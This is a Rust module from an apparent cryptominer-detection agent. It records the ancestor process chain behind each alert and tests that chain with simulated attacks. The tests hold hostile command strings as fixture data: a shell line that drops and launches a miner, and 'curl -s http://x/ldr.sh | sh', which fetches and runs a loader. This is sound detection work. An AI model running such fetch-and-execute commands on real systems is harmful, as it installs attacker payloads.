//! The infection chain: which processes a verdict's process descends from,
//! oldest first, so an incident responder sees "what dropped it" in the
//! alert itself (`java → sh → curl → .kdevtmpfsi`).
//!
//! Built from the process table when a verdict is made, never stored per
//! process: an exec costs nothing extra, and the table keeps exited
//! ancestors of live processes for a bounded time ([`ChainConfig`]), so the
//! short-lived `sh` that dropped the miner is still there when the miner is
//! caught. Each link says whether the process held a listening socket (a
//! web server, Redis, sshd: the usual entry point) and whether its place in
//! the chain is only best effort (known from the startup sweep, whose
//! parent links are /proc's current ppid, after any re-parenting).
//!
//! Pure like the rest of the detector: the chain depends only on the events
//! seen so far, so a recording replays to the same chains.

use std::collections::BTreeSet;
use std::net::IpAddr;

use serde::{Deserialize, Serialize};

use super::Detector;
use crate::event::Listen;
use crate::invalid::Invalid;
use crate::process::table::{Origin, Process, Retention};
use crate::time::Mono;

/// `[detector.chain]`: how much of the ancestry a verdict carries and how
/// long exited ancestors are kept for it.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct ChainConfig {
    /// Ancestors listed per verdict. Deeper chains keep the nearest ones
    /// (the dropper) and say `chain_truncated`. 16 covers init → container
    /// runtime → shim → service → shells → dropper with room to spare.
    pub max_depth: usize,
    /// Bytes of each ancestor's command line kept (arguments are cut at a
    /// character boundary; the link says `argv_truncated`).
    pub argv_max_bytes: usize,
    /// An exited process that still has a live descendant when its exit
    /// grace ends stays this long after its exit, in seconds, so a miner
    /// caught late still names the shell that started it.
    pub retain_exited_secs: u64,
    /// At most this many such exited ancestors are kept; the oldest goes
    /// first (counted as a capacity eviction).
    pub max_retained: usize,
}

impl Default for ChainConfig {
    fn default() -> Self {
        ChainConfig {
            max_depth: 16,
            argv_max_bytes: 256,
            retain_exited_secs: 3600,
            max_retained: 4096,
        }
    }
}

impl ChainConfig {
    pub const SECTION: &'static str = "detector.chain";

    pub fn validate(&self) -> Result<(), Invalid> {
        let key = |k: &str| format!("{}.{k}", Self::SECTION);
        if self.max_depth > 64 {
            return Err(Invalid::new(
                key("max_depth"),
                format!(
                    "{} is out of range; use 0..=64 ancestors (0: no chain), default 16",
                    self.max_depth
                ),
            ));
        }
        if self.argv_max_bytes > 4096 {
            return Err(Invalid::new(
                key("argv_max_bytes"),
                format!(
                    "{} is out of range; use 0..=4096 bytes, default 256",
                    self.argv_max_bytes
                ),
            ));
        }
        if self.retain_exited_secs > 86_400 {
            return Err(Invalid::new(
                key("retain_exited_secs"),
                format!(
                    "{} is out of range; use 0..=86400 seconds, default 3600",
                    self.retain_exited_secs
                ),
            ));
        }
        if self.max_retained > 65_536 {
            return Err(Invalid::new(
                key("max_retained"),
                format!(
                    "{} is out of range; use 0..=65536 processes, default 4096",
                    self.max_retained
                ),
            ));
        }
        Ok(())
    }

    pub(crate) fn retention(&self) -> Retention {
        Retention {
            ns: self.retain_exited_secs.saturating_mul(1_000_000_000),
            max: self.max_retained,
        }
    }
}

/// One ancestor of a verdict's process.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct ChainLink {
    pub pid: u32,
    pub comm: String,
    /// Absolute executable path if known, else the exec filename.
    pub exe: Option<String>,
    /// At most `argv_max_bytes` of the command line.
    pub argv: Vec<String>,
    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
    pub argv_truncated: bool,
    pub uid: u32,
    /// ns since boot at process start (0 if unknown): with the pid, the
    /// process's identity.
    pub start_boottime_ns: u64,
    /// When it started, or (sweep) when the agent first saw it.
    pub start_time: Mono,
    pub exited: Option<Mono>,
    /// It listened on a TCP socket (or inherited one at fork).
    pub listening: bool,
    /// Its listening addresses, where known.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub listen: Vec<(IpAddr, u16)>,
    /// Known from the startup sweep (or inferred): its parent is the one
    /// /proc showed at start, which may be a re-parenting init.
    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
    pub best_effort: bool,
}

impl Detector {
    /// The ancestors of `p`, oldest first, at most `max_depth` of them (the
    /// nearest); `true` when older ones were left out.
    pub(super) fn chain_of(&self, p: &Process) -> (Vec<ChainLink>, bool) {
        let cfg = &self.cfg.chain;
        let mut links = Vec::new();
        let mut seen = BTreeSet::from([p.tgid]);
        let mut truncated = false;
        let mut cur = p;
        while let Some(parent) = self.table.parent_of(cur) {
            if !seen.insert(parent.tgid) {
                break;
            }
            if links.len() >= cfg.max_depth {
                truncated = true;
                break;
            }
            links.push(link(parent, cfg.argv_max_bytes));
            cur = parent;
        }
        links.reverse();
        (links, truncated)
    }

    /// A process listens: it is a server, and so are the children it forks
    /// from now on (they inherit the socket).
    pub(super) fn on_listen(&mut self, l: Listen) {
        if !self.ensure_process(l.tgid, &l.comm, l.uid, l.time, l.source) {
            return; // a late event of an exited process
        }
        self.table.update(l.tgid, |p| p.listening.add(l.local));
    }
}

fn link(p: &Process, argv_max_bytes: usize) -> ChainLink {
    let (argv, cut) = trim_argv(&p.argv, argv_max_bytes);
    ChainLink {
        pid: p.tgid,
        comm: p.comm.clone(),
        exe: p.exe_display(),
        argv,
        argv_truncated: cut || p.argv_truncated,
        uid: p.uid,
        start_boottime_ns: p.start_boottime_ns,
        start_time: p.start_time,
        exited: p.exited,
        listening: p.listening.listening,
        listen: p.listening.addrs.clone(),
        best_effort: matches!(p.origin, Origin::Sweep | Origin::Inferred),
    }
}

/// The leading arguments that fit in `max` bytes, the last one cut at a
/// character boundary; `true` if anything was left out.
pub fn trim_argv(argv: &[String], max: usize) -> (Vec<String>, bool) {
    let mut out = Vec::new();
    let mut left = max;
    for a in argv {
        if a.len() <= left {
            left -= a.len();
            out.push(a.clone());
            continue;
        }
        let mut end = left;
        while !a.is_char_boundary(end) {
            end -= 1;
        }
        if end > 0 {
            out.push(a[..end].to_owned());
        }
        return (out, true);
    }
    (out, false)
}

#[cfg(test)]
mod tests {
    use super::super::tests::build::*;
    use super::super::tests::run_with;
    use super::super::{DetectorConfig, Rule, Severity, Verdict};
    use super::*;
    use crate::event::{Event, Source};

    fn args(v: &[&str]) -> Vec<String> {
        v.iter().map(|s| s.to_string()).collect()
    }

    const PY: &str = "/usr/bin/python3.11";
    const SH: &str = "/usr/bin/dash";
    const MINER: &str = "/tmp/.k/kdevtmpfsi";
    const POOL: &str = "203.0.113.50";

    fn listen(t: u64, tgid: u32, port: u16) -> Event {
        Event::Listen(Listen {
            time: ms(t),
            tgid,
            pid: tgid,
            uid: 33,
            comm: "python3".into(),
            local: Some((ip("0.0.0.0"), port)),
            source: Source::Kernel,
        })
    }

    /// The miner's own evidence: an XMRig login at once, CPU from `busy_at`.
    fn mining(tgid: u32, at: u64, busy_at: u64) -> Vec<Event> {
        let mut v = vec![
            connect(at + 20, tgid, POOL, 3333, 77),
            payload(at + 50, Some(tgid), 77, POOL, 3333, &xmrig_login()),
            provenance(at + 80, tgid, MINER, false),
        ];
        v.extend(cpu_series(busy_at, 10, &[tgid], |_| 1.0));
        v
    }

    /// A web app (100) whose request handler forks (200) and runs
    /// `sh -c`; the shell forks (300) and exits before that child execs
    /// the dropped miner, so the kernel reports it re-parented to init.
    fn dropped_by_a_web_app(busy_at: u64) -> Vec<Event> {
        let mut v = vec![
            exec(T0, 100, 1, PY, &["/usr/bin/python3", "app.py"]),
            provenance(T0 + 5, 100, PY, true),
            listen(T0 + 10, 100, 8080),
            fork(T0 + 1000, 100, 200, "python3"),
            exec(
                T0 + 1001,
                200,
                100,
                SH,
                &[
                    "sh",
                    "-c",
                    "cp /srv/up/k /tmp/.k/kdevtmpfsi; /tmp/.k/kdevtmpfsi &",
                ],
            ),
            fork(T0 + 1010, 200, 300, "sh"),
            exit(T0 + 1011, 200),
            exec(T0 + 1020, 300, 1, MINER, &["/tmp/.k/kdevtmpfsi"]),
        ];
        v.extend(mining(300, T0 + 1020, busy_at));
        v
    }

    fn names(v: &Verdict) -> Vec<(u32, &str)> {
        v.chain
            .iter()
            .map(|l| (l.pid, l.exe.as_deref().unwrap_or("?")))
            .collect()
    }

    #[test]
    fn chain_names_the_listening_app_and_the_exited_shell_oldest_first() {
        let (verdicts, _) = run_with(
            DetectorConfig::default(),
            dropped_by_a_web_app(T0 + 2000),
            T0 + 20_000,
        );
        let first = verdicts
            .iter()
            .find(|v| v.tgid == 300 && v.rule == Rule::PoolProtocolUnverified)
            .expect("the miner is caught");
        assert_eq!(names(first), vec![(100, PY), (200, SH)]);
        assert_eq!(first.ppid, 1, "the kernel's parent stays as reported");
        let app = &first.chain[0];
        assert!(app.listening && !app.best_effort && app.exited.is_none());
        assert_eq!(app.listen, vec![(ip("0.0.0.0"), 8080)]);
        assert_eq!(app.argv, args(&["/usr/bin/python3", "app.py"]));
        let sh = &first.chain[1];
        assert_eq!(sh.exited, Some(ms(T0 + 1011)), "gone before the alert");
        assert!(!sh.listening, "the socket closed on exec into sh");
        assert_eq!(sh.argv[..2], args(&["sh", "-c"]));
        assert!(sh.start_time >= app.start_time);
        assert!(!first.chain_truncated);
        assert!(first.chain.iter().all(|l| l.pid != 300), "not itself");
    }

    #[test]
    fn a_recording_replays_to_the_same_chains() {
        use crate::recording::{self, write_event, write_tick};
        let mut events = dropped_by_a_web_app(T0 + 30_000);
        events.sort_by_key(|e| e.time());
        let mut rec = Vec::new();
        let mut next = T0 + 1000;
        for e in &events {
            while next <= e.time().ns() / 1_000_000 {
                write_tick(&mut rec, ms(next)).unwrap();
                next += 1000;
            }
            write_event(&mut rec, e).unwrap();
        }
        while next <= T0 + 60_000 {
            write_tick(&mut rec, ms(next)).unwrap();
            next += 1000;
        }
        let text = String::from_utf8(rec).unwrap();
        assert!(
            text.contains(r#""kind":"listen""#),
            "listen events are recorded"
        );
        let replay_once = || {
            let mut det = crate::detect::Detector::new(DetectorConfig::default());
            let mut out = String::new();
            for item in recording::read(text.as_bytes()) {
                let (_, record) = item.unwrap();
                let (input, time) = record.into_input();
                for v in det.step(input, time) {
                    out.push_str(&serde_json::to_string(&v).unwrap());
                    out.push('\n');
                }
            }
            out
        };
        let first = replay_once();
        assert_eq!(first, replay_once(), "same recording, same verdicts");
        let verdicts: Vec<Verdict> = first
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect();
        let (direct, _) = run_with(DetectorConfig::default(), events, T0 + 60_000);
        assert_eq!(verdicts.len(), direct.len());
        for (a, b) in verdicts.iter().zip(&direct) {
            assert_eq!(a.chain, b.chain);
        }
        assert!(
            verdicts
                .iter()
                .all(|v| names(v) == vec![(100, PY), (200, SH)])
        );
    }

    #[test]
    fn exited_shell_stays_in_the_chain_past_the_exit_grace() {
        // CPU starts 30 s after the drop: the critical verdict comes long
        // after the shell's 10 s grace period.
        let busy_at = T0 + 30_000;
        let (verdicts, det) = run_with(
            DetectorConfig::default(),
            dropped_by_a_web_app(busy_at),
            T0 + 60_000,
        );
        let late = verdicts
            .iter()
            .find(|v| v.tgid == 300 && v.severity == Severity::Critical)
            .expect("critical once busy");
        assert!(late.time.saturating_sub(ms(T0 + 1011)) > 20_000_000_000);
        assert_eq!(names(late), vec![(100, PY), (200, SH)]);
        assert_eq!(det.stats().retained_ancestors, 1, "the shell");
    }

    #[test]
    fn without_retention_the_expired_shell_breaks_the_chain() {
        let mut cfg = DetectorConfig::default();
        cfg.chain.max_retained = 0;
        let (verdicts, det) = run_with(cfg, dropped_by_a_web_app(T0 + 30_000), T0 + 60_000);
        let late = verdicts
            .iter()
            .find(|v| v.tgid == 300 && v.severity == Severity::Critical)
            .expect("critical once busy");
        assert!(late.chain.is_empty(), "{:?}", names(late));
        assert_eq!(det.stats().retained_ancestors, 0);
    }

    #[test]
    fn retained_ancestors_go_after_their_time() {
        let mut cfg = DetectorConfig::default();
        cfg.chain.retain_exited_secs = 20;
        let (_, det) = run_with(cfg, dropped_by_a_web_app(T0 + 2000), T0 + 15_000);
        assert_eq!(det.stats().retained_ancestors, 1);
        let mut cfg = DetectorConfig::default();
        cfg.chain.retain_exited_secs = 20;
        let (_, det) = run_with(cfg, dropped_by_a_web_app(T0 + 2000), T0 + 25_000);
        assert_eq!(det.stats().retained_ancestors, 0);
        assert!(det.table().get(200).is_none());
        assert!(det.table().live(300).is_some(), "the miner itself stays");
    }

    #[test]
    fn a_reused_pid_is_not_taken_for_the_shell() {
        let mut ev = dropped_by_a_web_app(T0 + 30_000);
        // After the shell's grace, its pid comes back as an unrelated,
        // younger process (a cron job).
        ev.push(exec(T0 + 15_000, 900, 1, "/usr/sbin/cron", &["cron"]));
        ev.push(fork(T0 + 15_500, 900, 200, "cron"));
        ev.push(exec(
            T0 + 15_501,
            200,
            900,
            "/usr/bin/logrotate",
            &["logrotate"],
        ));
        let (verdicts, _) = run_with(DetectorConfig::default(), ev, T0 + 60_000);
        let late = verdicts
            .iter()
            .find(|v| v.tgid == 300 && v.severity == Severity::Critical)
            .expect("critical once busy");
        assert!(
            late.chain.is_empty(),
            "the new 200 is younger than the miner: {:?}",
            names(late)
        );
        let early = verdicts.iter().find(|v| v.tgid == 300).expect("first");
        assert_eq!(names(early), vec![(100, PY), (200, SH)]);
    }

    #[test]
    fn depth_and_argv_bounds_keep_the_nearest_and_say_so() {
        let mut cfg = DetectorConfig::default();
        cfg.chain.max_depth = 3;
        cfg.chain.argv_max_bytes = 8;
        // 10 → 11 → … → 15 (shells), then the miner 16.
        let mut ev = vec![exec(T0, 10, 1, SH, &["sh", "-c", "long script here"])];
        for t in 11..=16u32 {
            let at = T0 + u64::from(t) * 10;
            ev.push(fork(at, t - 1, t, "sh"));
            let (path, argv): (&str, &[&str]) = if t == 16 {
                (MINER, &["kdevtmpfsi"])
            } else {
                (SH, &["sh", "-c", "long script here"])
            };
            ev.push(exec(at + 1, t, t - 1, path, argv));
        }
        ev.extend(mining(16, T0 + 200, T0 + 2000));
        let (verdicts, _) = run_with(cfg, ev, T0 + 10_000);
        let v = verdicts.iter().find(|v| v.tgid == 16).expect("caught");
        let pids: Vec<u32> = v.chain.iter().map(|l| l.pid).collect();
        assert_eq!(pids, vec![13, 14, 15], "the nearest three, oldest first");
        assert!(v.chain_truncated);
        for l in &v.chain {
            assert_eq!(l.argv, args(&["sh", "-c", "long"]));
            assert!(l.argv_truncated);
        }
    }

    #[test]
    fn sweep_ancestry_is_flagged_best_effort() {
        let mut ev = vec![
            sweep_exec(T0, 50, 0, "/usr/sbin/sshd", &["sshd"]),
            sweep_exec(T0, 100, 50, PY, &["/usr/bin/python3", "app.py"]),
        ];
        let Event::Listen(mut l) = listen(T0, 100, 8000) else {
            unreachable!()
        };
        l.source = Source::Sweep;
        ev.push(Event::Listen(l));
        ev.extend([
            fork(T0 + 1000, 100, 200, "python3"),
            exec(T0 + 1001, 200, 100, SH, &["sh", "-c", "x"]),
            fork(T0 + 1010, 200, 300, "sh"),
            exec(T0 + 1020, 300, 200, MINER, &["kdevtmpfsi"]),
        ]);
        ev.extend(mining(300, T0 + 1020, T0 + 2000));
        let (verdicts, _) = run_with(DetectorConfig::default(), ev, T0 + 10_000);
        let v = verdicts.iter().find(|v| v.tgid == 300).expect("caught");
        let got: Vec<(u32, bool, bool)> = v
            .chain
            .iter()
            .map(|l| (l.pid, l.best_effort, l.listening))
            .collect();
        assert_eq!(
            got,
            vec![(50, true, false), (100, true, true), (200, false, false)]
        );
    }

    #[test]
    fn forked_workers_inherit_listening_and_exec_clears_it() {
        let mut ev = vec![
            exec(T0, 100, 1, PY, &["gunicorn", "master"]),
            listen(T0 + 10, 100, 8000),
            // A pre-forked worker (no exec) runs the exploited handler.
            fork(T0 + 100, 100, 110, "gunicorn"),
            fork(T0 + 1000, 110, 200, "gunicorn"),
            exec(T0 + 1001, 200, 110, SH, &["sh", "-c", "x"]),
            fork(T0 + 1010, 200, 300, "sh"),
            exec(T0 + 1020, 300, 200, MINER, &["kdevtmpfsi"]),
        ];
        ev.extend(mining(300, T0 + 1020, T0 + 2000));
        let (verdicts, _) = run_with(DetectorConfig::default(), ev, T0 + 10_000);
        let v = verdicts.iter().find(|v| v.tgid == 300).expect("caught");
        let got: Vec<(u32, bool)> = v.chain.iter().map(|l| (l.pid, l.listening)).collect();
        assert_eq!(got, vec![(100, true), (110, true), (200, false)]);
    }

    #[test]
    fn a_listen_after_the_fork_is_not_inherited() {
        let mut ev = vec![
            exec(T0, 100, 1, PY, &["app"]),
            fork(T0 + 100, 100, 300, "app"),
            listen(T0 + 200, 100, 8000),
            exec(T0 + 300, 300, 100, MINER, &["kdevtmpfsi"]),
        ];
        ev.extend(mining(300, T0 + 300, T0 + 2000));
        let (verdicts, det) = run_with(DetectorConfig::default(), ev, T0 + 10_000);
        let v = verdicts.iter().find(|v| v.tgid == 300).expect("caught");
        assert_eq!(v.chain.len(), 1);
        assert!(v.chain[0].listening, "the parent listens now");
        assert!(!det.table().get(300).unwrap().listening.listening);
    }

    #[test]
    fn argv_is_cut_at_the_bound_on_a_character_boundary() {
        let a = args(&["sh", "-c", "curl -s http://x/ldr.sh | sh"]);
        assert_eq!(trim_argv(&a, 1000), (a.clone(), false));
        assert_eq!(trim_argv(&a, 4), (args(&["sh", "-c"]), true));
        assert_eq!(trim_argv(&a, 9), (args(&["sh", "-c", "curl "]), true));
        assert_eq!(trim_argv(&a, 0), (Vec::new(), true));
        // "é" is two bytes: a cut inside it backs off to before it.
        assert_eq!(trim_argv(&args(&["é"]), 1), (Vec::new(), true));
        assert_eq!(trim_argv(&args(&["aé"]), 2), (args(&["a"]), true));
        assert_eq!(trim_argv(&[], 0), (Vec::new(), false));
    }

    #[test]
    fn config_bounds_name_the_key() {
        ChainConfig::default().validate().unwrap();
        type Edit = fn(&mut ChainConfig);
        let cases: &[(&str, Edit)] = &[
            ("detector.chain.max_depth", |c| c.max_depth = 65),
            ("detector.chain.argv_max_bytes", |c| c.argv_max_bytes = 5000),
            ("detector.chain.retain_exited_secs", |c| {
                c.retain_exited_secs = 90_000
            }),
            ("detector.chain.max_retained", |c| c.max_retained = 100_000),
        ];
        for (key, edit) in cases {
            let mut c = ChainConfig::default();
            edit(&mut c);
            assert_eq!(c.validate().unwrap_err().key, *key);
        }
        let zero = ChainConfig {
            max_depth: 0,
            argv_max_bytes: 0,
            retain_exited_secs: 0,
            max_retained: 0,
        };
        zero.validate().unwrap();
    }
}
